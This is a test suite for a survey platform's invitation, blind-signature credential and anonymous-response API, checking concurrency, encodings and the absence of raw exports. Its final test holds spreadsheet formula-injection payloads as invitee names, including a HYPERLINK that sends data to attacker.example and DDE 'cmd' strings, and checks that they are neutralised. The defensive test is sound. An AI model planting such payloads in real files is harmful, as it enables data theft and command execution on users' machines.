/**
 * The leader survey's invitations over real HTTP: import (with the minimum cell size), links for
 * mail merge (`/i/#<token>`), the credential flow (lookup, one blind signature per invitation,
 * anonymous answer spent once under concurrency, identical resends with the same receipt),
 * completion tracking, and no raw export. Invitee files are read in every encoding Excel saves,
 * and the links file never hands a spreadsheet a formula. The storage analysis is in
 * anonymity.test.ts.
 */
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { DIALECTS, postgresAvailable } from "../helpers/databases.js";
import { startTestServer, type TestServer } from "../helpers/server.js";
import { demoUnits, instrumentOf, makeSubmission } from "../helpers/responses.js";
import { anonymousAnswer, openInvitation } from "../helpers/invitee.js";
import { blindNewMessage } from "../../client/respond/credential.js";
import { seededRng } from "../../server/demo/random.js";
import type { Instrument } from "../../shared/instrument/schema.js";
import { readCsv } from "../../server/lib/csv.js";
import { encodedFixtures, TCVN3_THON_PHU_LOC } from "../helpers/encodings.js";

describe.each(DIALECTS)("invitations on %s", (dialect) => {
  const skip = dialect === "postgres" && !postgresAvailable;
  let server: TestServer;
  let admin: Record<string, string>;
  let leaders: Instrument;
  let round: string;
  let agencies: string[];
  const tokens: string[] = [];
  const groups = ["hdnd", "so", "phong", "huyen"];

  beforeAll(async () => {
    if (skip) return;
    server = await startTestServer(dialect);
    const account = await server.createUser("admin");
    admin = await server.signIn(account.username, account.password);
    leaders = await instrumentOf(server.ctx, "par-leaders-2022");
    round = await server.createRound("par-leaders-2022", { modes: ["invitation"], minCellSize: 3 });
    agencies = demoUnits(server.ctx, "agency");
  });
  afterAll(async () => {
    if (!skip) await server.close();
  });

  const answers = (group: string, seed: number) => makeSubmission(leaders, "x", group, seededRng(seed)).answers;
  const post = (path: string, json: unknown) => server.api(path, { json });

  it.skipIf(skip)("imports invitees from CSV, reporting bad rows by line and writing nothing", async () => {
    const bad = "name,email,group,agency\nNguyễn Văn A,a@example.vn,so,SNV\nTrần Thị B,not-an-email,so,SNV\nLê C,c@example.vn,nope,SNV\n";
    const refused = await server.api(`/api/rounds/${round}/invitations`, { method: "POST", body: bad, headers: { ...admin, "content-type": "text/csv" } });
    expect(refused.status).toBe(422);
    expect(refused.body.error.errors.map((e: { question: string }) => e.question)).toEqual(["line 3.email", "line 4.group"]);
    expect(await server.count("invitations")).toBe(0);
  });

  it.skipIf(skip)("refuses a cell (group × province) smaller than the minimum, saying which and why", async () => {
    const rows = [
      "name,email,group,agency",
      `Một,mot@example.vn,so,${agencies[0]}`,
      `Hai,hai@example.vn,so,${agencies[1]}`,
      `Ba,ba@example.vn,phong,${agencies[0]}`,
    ];
    const res = await server.api(`/api/rounds/${round}/invitations`, {
      method: "POST",
      body: rows.join("\n"),
      headers: { ...admin, "content-type": "text/csv" },
    });
    expect(res.status).toBe(422);
    const errors = res.body.error.errors as Array<{ question: string; message_vi: string; message_en: string }>;
    expect(errors.map((e) => e.question.split(".").slice(0, 2).join("."))).toEqual(["cells.so", "cells.phong"]);
    expect(errors[0]!.message_vi).toMatch(/chỉ có 2 người được mời, ít hơn cỡ ô tối thiểu 3/);
    expect(errors[0]!.message_en).toMatch(/only 2 invitees, fewer than the minimum cell size 3/);
    expect(await server.count("invitations")).toBe(0);
  });

  it.skipIf(skip)("imports 12 invitees in 4 cells and exports their links as /i/#token, CSV with a BOM", async () => {
    const rows = ["name,email,group,agency"];
    for (let i = 0; i < 12; i++) rows.push(`Đại biểu ${i + 1},dai.bieu${i + 1}@example.vn,${groups[i % 4]},${agencies[i % agencies.length]}`);
    const ok = await server.api(`/api/rounds/${round}/invitations`, {
      method: "POST",
      body: `\uFEFF${rows.join("\n")}\n`,
      headers: { ...admin, "content-type": "text/csv" },
    });
    expect(ok.status, JSON.stringify(ok.body)).toBe(201);
    expect(ok.body.imported).toBe(12);

    const res = await fetch(`${server.url}/api/rounds/${round}/invitations/links.csv`, { headers: admin });
    expect(res.status).toBe(200);
    const bytes = new Uint8Array(await res.arrayBuffer());
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const table = readCsv(bytes);
    expect(table.columns).toEqual(["name", "email", "group", "agency", "agency_name", "opened", "link"]);
    for (const r of table.records) {
      const link = r.fields[table.columns.indexOf("link")]!;
      // The token is in the fragment: browsers never send it, so no server or proxy log holds it.
      expect(link).toMatch(/\/i\/#[A-Za-z0-9_-]{32}$/);
      tokens.push(link.split("#")[1]!);
      expect(r.fields[table.columns.indexOf("opened")]).toBe("no");
    }
    expect(tokens).toHaveLength(12);
    expect((await server.api(`/api/rounds/${round}/invitations/links.csv`)).status).toBe(401);
  });

  it.skipIf(skip)("the token goes only in a body: lookup shows the form fixed to the province and group; old URL paths are gone", async () => {
    const lookup = await post("/api/invitations/lookup", { token: tokens[0] });
    expect(lookup.status).toBe(200);
    expect(lookup.body.groups).toHaveLength(1);
    expect(server.ctx.units.getCached(lookup.body.fixedUnit.key)?.level).toBe("province");
    expect(lookup.body.cell).toEqual({ round, group: lookup.body.groups[0].code, unit: lookup.body.fixedUnit.key });
    expect(lookup.body.opened).toBe(false);
    expect(lookup.body.publicKey).toMatch(/^[A-Za-z0-9_-]{300,}$/);
    expect((await post("/api/invitations/lookup", { token: "not-a-real-token-at-all-xxxxxxxxx" })).status).toBe(404);
    const missing = await post("/api/invitations/lookup", {});
    expect(missing.status).toBe(422);
    expect(missing.body.error.errors[0].question).toBe("token");
    expect((await server.api(`/api/invitations/${tokens[0]}`)).status).toBe(404);
    expect((await server.api(`/api/invitations/${tokens[0]}/response`, { json: {} })).status).toBe(404);
  });

  it.skipIf(skip)("one credential per invitation: the same blinded message gets the same signature, another is refused", async () => {
    const { publicKey } = (await post("/api/invitations/lookup", { token: tokens[1] })).body;
    const first = await blindNewMessage(publicKey);
    const a = await post("/api/invitations/credential", { token: tokens[1], blindedMessage: first.blinded });
    expect(a.status).toBe(200);
    const again = await post("/api/invitations/credential", { token: tokens[1], blindedMessage: first.blinded });
    expect(again.body.blindSignature).toBe(a.body.blindSignature);
    const second = await blindNewMessage(publicKey);
    const refused = await post("/api/invitations/credential", { token: tokens[1], blindedMessage: second.blinded });
    expect(refused.status).toBe(409);
    expect(refused.body.error.message_vi).toMatch(/đã được mở/);
    expect(refused.body.error.message_en).toMatch(/already opened/);
    expect((await post("/api/invitations/lookup", { token: tokens[1] })).body.opened).toBe(true);
    const malformed = await post("/api/invitations/credential", { token: tokens[2], blindedMessage: "AAAA" });
    expect(malformed.status).toBe(422);
    expect(malformed.body.error.errors[0].question).toBe("blindedMessage");
    expect((await post("/api/invitations/lookup", { token: tokens[2] })).body.opened).toBe(false);
  });

  it.skipIf(skip)("twenty concurrent credential requests for one invitation: exactly one browser gets one", async () => {
    const { publicKey } = (await post("/api/invitations/lookup", { token: tokens[3] })).body;
    const blinded = await Promise.all(Array.from({ length: 20 }, () => blindNewMessage(publicKey)));
    const results = await Promise.all(blinded.map((b) => post("/api/invitations/credential", { token: tokens[3], blindedMessage: b.blinded })));
    expect(results.filter((r) => r.status === 200)).toHaveLength(1);
    expect(results.filter((r) => r.status === 409)).toHaveLength(19);
  });

  it.skipIf(skip)("twenty concurrent submissions with one invitation store one response; resends get the same receipt; other content is a 409", async () => {
    const before = await server.count("responses");
    const opened = await openInvitation(server, tokens[4]!);
    const body = anonymousAnswer(opened, answers(opened.form.cell.group, 4));
    const results = await Promise.all(Array.from({ length: 20 }, () => post("/api/invitations/responses", body)));
    expect(results.filter((r) => r.status === 201)).toHaveLength(1);
    expect(results.filter((r) => r.status === 200)).toHaveLength(19);
    expect(new Set(results.map((r) => r.body.receipt)).size).toBe(1);
    expect(new Set(results.map((r) => r.body.id)).size).toBe(1);
    expect(await server.count("responses")).toBe(before + 1);
    const resend = await post("/api/invitations/responses", body);
    expect(resend.status).toBe(200);
    expect(resend.body).toEqual({ id: results[0]!.body.id, receipt: results[0]!.body.receipt, status: "duplicate" });
    const changed = await post("/api/invitations/responses", anonymousAnswer(opened, answers(opened.form.cell.group, 5)));
    expect(changed.status).toBe(409);
    expect(changed.body.error.code).toBe("credential_used");
    expect(await server.count("responses")).toBe(before + 1);
  });

  it.skipIf(skip)("refuses a forged credential or one of another cell, naming the field, and stores nothing", async () => {
    const before = await server.count("responses");
    const opened = await openInvitation(server, tokens[5]!);
    const forged = anonymousAnswer(opened, answers(opened.form.cell.group, 6));
    forged.credential = { ...forged.credential, signature: forged.credential.signature.replace(/^./, (c) => (c === "A" ? "B" : "A")) };
    const res = await post("/api/invitations/responses", forged);
    expect(res.status).toBe(422);
    expect(res.body.error.errors[0]).toMatchObject({ question: "credential", code: "invalid_field" });
    expect(res.body.error.errors[0].message_vi).toMatch(/chứng nhận/);
    const otherGroup = groups.find((g) => g !== opened.form.cell.group)!;
    const moved = { ...anonymousAnswer(opened, answers(otherGroup, 7)), group: otherGroup };
    expect((await post("/api/invitations/responses", moved)).status).toBe(422);
    expect((await post("/api/invitations/responses", { ...forged, token: tokens[5] })).status).toBe(422);
    expect(await server.count("responses")).toBe(before);
    expect((await post("/api/invitations/responses", anonymousAnswer(opened, answers(opened.form.cell.group, 6)))).status).toBe(201);
  });

  it.skipIf(skip)("tracks completion as it can honestly be known: per invitee opened, per group responses", async () => {
    for (let i = 6; i < 9; i++) {
      const opened = await openInvitation(server, tokens[i]!);
      expect((await post("/api/invitations/responses", anonymousAnswer(opened, answers(opened.form.cell.group, 10 + i)))).status).toBe(201);
    }
    const progress = await server.api(`/api/rounds/${round}/invitations/progress`, { headers: admin });
    expect(progress.status).toBe(200);
    // Opened: 1, 3, 4, 5, 6, 7, 8 (token 0 was only looked up); responses: 4, 5, 6, 7, 8.
    expect(progress.body.total).toEqual({ invited: 12, opened: 7, responses: 5 });
    expect(progress.body.invitees.filter((i: { opened: boolean }) => i.opened)).toHaveLength(7);
    expect(progress.body.groups.reduce((s: number, g: { responses: number }) => s + g.responses, 0)).toBe(5);
    expect(progress.body).not.toHaveProperty("notAnswered");
    expect((await server.api(`/api/rounds/${round}/invitations/progress`)).status).toBe(401);
  });

  it.skipIf(skip)("an anonymous round has no raw per-response export", async () => {
    for (const layout of ["wide", "long"]) {
      const res = await server.api(`/api/rounds/${round}/export/${layout}?format=csv`, { headers: admin });
      expect(res.status).toBe(403);
      expect(res.body.error.message_vi).toMatch(/ẩn danh/);
    }
    expect((await fetch(`${server.url}/api/rounds/${round}/export/codebook?format=csv`, { headers: admin })).status).toBe(200);
  });

  it.skipIf(skip)("a closed round issues no credential and takes no answer, saying so", async () => {
    const opened = await openInvitation(server, tokens[9]!);
    await server.ctx.db.kysely.updateTable("rounds").set({ status: "closed" }).where("id", "=", round).execute();
    try {
      const { publicKey } = (await post("/api/invitations/lookup", { token: tokens[10] })).body;
      const credential = await post("/api/invitations/credential", { token: tokens[10], blindedMessage: (await blindNewMessage(publicKey)).blinded });
      expect(credential.status).toBe(409);
      expect(credential.body.error.code).toBe("round_not_open");
      const res = await post("/api/invitations/responses", anonymousAnswer(opened, answers(opened.form.cell.group, 99)));
      expect(res.status).toBe(409);
      expect(res.body.error.code).toBe("round_not_open");
      expect(res.body.error.message_vi).toMatch(/kết thúc/);
    } finally {
      await server.ctx.db.kysely.updateTable("rounds").set({ status: "open" }).where("id", "=", round).execute();
    }
  });

  it.skipIf(skip)("reads an invitee file in UTF-8, UTF-8 with BOM, UTF-16LE with BOM and Windows-1258 to the same names", async () => {
    const names = ["Nguyễn Thị Hồng Nhung", "Trần Văn Đức", "Lê Thị Ánh Tuyết"];
    const csv = (i: number) =>
      `name;email;group;agency\n${names.map((n, j) => `${n};enc${i}.${j}@example.vn;so;${agencies[j % agencies.length]}`).join("\n")}\n`;
    for (let i = 0; i < 4; i++) {
      const [encoding, bytes] = encodedFixtures(csv(i))[i]!;
      const res = await server.api(`/api/rounds/${round}/invitations`, {
        method: "POST",
        body: new Uint8Array(bytes),
        headers: { ...admin, "content-type": "text/csv" },
      });
      expect(res.status, `${encoding}: ${JSON.stringify(res.body)}`).toBe(201);
      const stored = await server.ctx.db.kysely
        .selectFrom("invitations")
        .select(["name", "email"])
        .where("email", "like", `enc${i}.%`)
        .orderBy("email")
        .execute();
      expect(
        stored.map((r) => r.name),
        encoding,
      ).toEqual(names);
    }
  });

  it.skipIf(skip)("refuses an invitee file it cannot decode surely, and stores nothing", async () => {
    const before = await server.count("invitations");
    const bytes = Buffer.concat([Buffer.from("name,email,group,agency\n"), TCVN3_THON_PHU_LOC, Buffer.from(`,tcvn3@example.vn,so,${agencies[0]}\n`)]);
    const res = await server.api(`/api/rounds/${round}/invitations`, {
      method: "POST",
      body: new Uint8Array(bytes),
      headers: { ...admin, "content-type": "text/csv" },
    });
    expect(res.status).toBe(422);
    expect(res.body.error.errors[0]).toMatchObject({ question: "line 2", code: "invalid_field" });
    expect(res.body.error.errors[0].message_vi).toContain("CSV UTF-8");
    expect(res.body.error.errors[0].message_en).toContain("CSV UTF-8");
    const unclosed = await server.api(`/api/rounds/${round}/invitations`, {
      method: "POST",
      body: `name,email,group,agency\n"Open,x@example.vn,so,${agencies[0]}\n`,
      headers: { ...admin, "content-type": "text/csv" },
    });
    expect(unclosed.status).toBe(422);
    expect(unclosed.body.error.errors[0].question).toBe("line 2");
    expect(await server.count("invitations")).toBe(before);
  });

  it.skipIf(skip)("links.csv writes an invitee named like a formula as text", async () => {
    const formulas = ['=HYPERLINK("http://attacker.example/?d="&B2,"Bấm vào đây")', "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1"];
    const json = { invitees: formulas.map((name, i) => ({ name, email: `formula${i}@example.vn`, group: "so", agency: agencies[0] })) };
    expect((await server.api(`/api/rounds/${round}/invitations`, { json, headers: admin })).status).toBe(201);
    const res = await fetch(`${server.url}/api/rounds/${round}/invitations/links.csv`, { headers: admin });
    const table = readCsv(new Uint8Array(await res.arrayBuffer()));
    const nameOf = new Map(table.records.map((r) => [r.fields[table.columns.indexOf("email")], r.fields[table.columns.indexOf("name")]]));
    formulas.forEach((name, i) => expect(nameOf.get(`formula${i}@example.vn`)).toBe(`'${name}`));
    // No cell of the file starts like a formula.
    for (const record of table.records) for (const field of record.fields) expect(field).not.toMatch(/^[=+\-@]/);
  });
});
